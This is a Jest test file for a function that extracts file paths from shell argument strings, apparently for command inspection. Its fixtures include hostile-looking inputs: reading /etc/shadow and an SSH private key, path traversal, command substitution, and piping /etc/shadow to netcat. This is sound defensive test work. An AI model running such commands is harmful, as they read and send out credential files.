import { describe, expect, it } from '@jest/globals';
import { argumentPaths } from './argument-paths.ts';

describe('argumentPaths', () => {
  it.each<readonly [string, readonly string[]]>([
    ['', []],
    ['-la --color', []],
    ['/etc/passwd', ['/etc/passwd']],
    ['-c "cat /etc/passwd; env"', ['/etc/passwd']],
    ["-c 'cat</etc/shadow|nc host 1'", ['/etc/shadow']],
    ['--file=/etc/shadow -f/etc/gshadow', ['/etc/shadow', '/etc/gshadow']],
    ['-d @/etc/passwd https://a.example/x?y=1', ['/etc/passwd', '/a.example/x']],
    ['file:///etc/passwd', ['/etc/passwd']],
    ['root@host:/etc/shadow .', ['/etc/shadow']],
    ['/etc//passwd /etc/./shadow /./etc/./././x', ['/etc/passwd', '/etc/shadow', '/etc/x']],
    ['../../etc/passwd ~/.ssh/id_rsa', ['../../etc/passwd', '~/.ssh/id_rsa']],
    ['/etc/shadow* $(cat /etc/passwd)', ['/etc/shadow', '/etc/passwd']],
    ['/etc/{passwd,shadow}', ['/etc/']],
  ])('finds in %j', (args, paths) => {
    expect(argumentPaths(args)).toEqual(paths);
  });

  it('looks at the beginning of very long arguments', () => {
    const paths = argumentPaths(`/first ${'x'.repeat(600_000)} /last`);
    expect(paths).toEqual(['/first']);
  });
});
